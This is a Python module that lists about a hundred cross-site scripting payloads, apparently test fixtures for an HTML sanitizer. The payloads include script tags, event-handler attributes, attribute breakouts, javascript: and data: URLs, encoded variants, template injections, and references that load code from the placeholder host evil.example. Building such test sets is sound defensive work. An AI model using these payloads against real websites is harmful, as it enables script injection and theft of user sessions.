"""A hundred texts that want to be markup or script. What one adds to a page has the attribute ``data-xss``."""

# {run} is replaced by a call that the page reports.
_CLASSIC = (
    *("<script data-xss>{run}</script>", "<ScRiPt data-xss>{run}</sCrIpT>"),
    *("<script data-xss src=/static/none.js></script>", "<script data-xss type=module>{run}</script>"),
    *("</script><script data-xss>{run}</script>", "</title><script data-xss>{run}</script>"),
    *("</textarea><script data-xss>{run}</script>", "</style><script data-xss>{run}</script>"),
    *("</noscript><script data-xss>{run}</script>", "</template><script data-xss>{run}</script>"),
    *("</pre><script data-xss>{run}</script>", "</option></select><img data-xss src=x onerror={run}>"),
    *("</td></tr></table><img data-xss src=x onerror={run}>", "--><script data-xss>{run}</script>"),
    *("<!--><img data-xss src=x onerror={run}>", "]]><script data-xss>{run}</script>"),
    *("<![CDATA[<img data-xss src=x onerror={run}>]]>", "<<script data-xss>{run}//<</script>"),
    *("<script data-xss\n>{run}</script\n>", "<script data-xss>/*{run}*/</script>"),
)
_HANDLERS = tuple(
    f"<{tag} data-xss {handler}>"
    for tag, handler in (
        ("img", "src=x onerror={run}"),
        ("img", "src=x onerror='{run}'"),
        ("img", 'src="x" onerror="{run}"'),
        ("img", "src=x:x onerror=&#123;run&#125;"),
        ("IMG", 'SRC="x" ONERROR="{run}"'),
        ("image", "src=x onerror={run}"),
        ("svg", "onload={run}"),
        ("svg", "><animate onbegin={run} attributeName=x dur=1s"),
        ("svg", "><script>{run}</script"),
        ("svg", '><a xlink:href="javascript:{run}"><text y=9>go</text></a'),
        ("svg", "><foreignObject><img src=x onerror={run}></foreignObject"),
        ("body", "onload={run}"),
        ("body", "onpageshow={run}"),
        ("video", "><source onerror={run}"),
        ("video", "src=x onerror={run}"),
        ("audio", "src=x onerror={run}"),
        ("details", "open ontoggle={run}"),
        ("input", "autofocus onfocus={run}"),
        ("select", "autofocus onfocus={run}"),
        ("textarea", "autofocus onfocus={run}"),
        ("button", "autofocus onfocus={run}"),
        ("marquee", "onstart={run}"),
        ("iframe", 'src="javascript:{run}"'),
        ("iframe", 'srcdoc="<script>parent.{run}</script>"'),
        ("iframe", "onload={run}"),
        ("object", 'data="javascript:{run}"'),
        ("embed", 'src="javascript:{run}"'),
        ("form", '><button formaction="javascript:{run}">go</button'),
        ("math", '><maction actiontype=statusline xlink:href="javascript:{run}">go</maction'),
        ("div", "onpointerenter={run} style=position:fixed;inset:0"),
        ("div", "style=background:url(javascript:{run})"),
        ("style", ">@import 'javascript:{run}';</style"),
        ("link", "rel=stylesheet href=javascript:{run}"),
        ("meta", 'http-equiv=refresh content="0;url=javascript:{run}"'),
        ("base", "href=//evil.example/"),
        ("table", "background=javascript:{run}"),
        ("dialog", "open onclose={run}"),
        ("custom-element", "autofocus tabindex=1 onfocus={run}"),
        ("x", "contenteditable autofocus onfocus={run}"),
        ("p", "onanimationstart={run} style=animation:x"),
    )
)
_ATTRIBUTES = (
    *('" data-xss onmouseover={run} x="', "' data-xss onmouseover={run} x='"),
    *("` data-xss onmouseover={run} x=`", '" data-xss autofocus onfocus={run} x="'),
    *("' data-xss autofocus onfocus={run} x='", '"><img data-xss src=x onerror={run}>'),
    *("'><img data-xss src=x onerror={run}>", '\\"><img data-xss src=x onerror={run}>'),
    *('"/><script data-xss>{run}</script>', "'/><script data-xss>{run}</script>"),
    '" style=animation-name:x onanimationstart={run} data-xss x="',
    'x" data-xss formaction="javascript:{run}',
)
_ADDRESSES = (
    *("javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", " javascript:{run}"),
    *("javascript://%0a{run}", "data:text/html,<script data-xss>{run}</script>"),
    *("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:{run}", "//evil.example/x.js"),
    "https://evil.example/?<script data-xss>{run}</script>",
)
_ESCAPES = (
    *("&lt;script data-xss&gt;{run}&lt;/script&gt;", "&#60;img data-xss src=x onerror={run}&#62;"),
    *("%3Cscript data-xss%3E{run}%3C/script%3E", "\\u003cscript data-xss\\u003e{run}\\u003c/script\\u003e"),
    *("\\x3cimg data-xss src=x onerror={run}\\x3e", "\u2028<script data-xss>{run}</script>"),
    "＜script data-xss＞{run}＜/script＞",
    "<scr\u200bipt data-xss>{run}</script><img data-xss src=x onerror={run}>",
)
_TEMPLATES = (
    *("{{ {run} }}<img data-xss src=x onerror={run}>", "{% load x %}<img data-xss src=x onerror={run}>"),
    *("${{run}}<img data-xss src=x onerror={run}>", "#{{run}}<img data-xss src=x onerror={run}>"),
    *("<div data-xss x-data x-init={run}></div>", "<div data-xss v-html={run}></div>"),
    *("<div data-xss hx-on:load={run}></div>", "[x](javascript:{run})<img data-xss src=x onerror={run}>"),
    "<template data-xss shadowrootmode=open><img src=x onerror={run}></template>",
    "\x1b]8;;javascript:{run}\x07<img data-xss src=x onerror={run}>",
)
PAYLOADS = tuple(
    text.replace("{run}", f"xss({number})")
    for number, text in enumerate((*_CLASSIC, *_HANDLERS, *_ATTRIBUTES, *_ADDRESSES, *_ESCAPES, *_TEMPLATES))
)
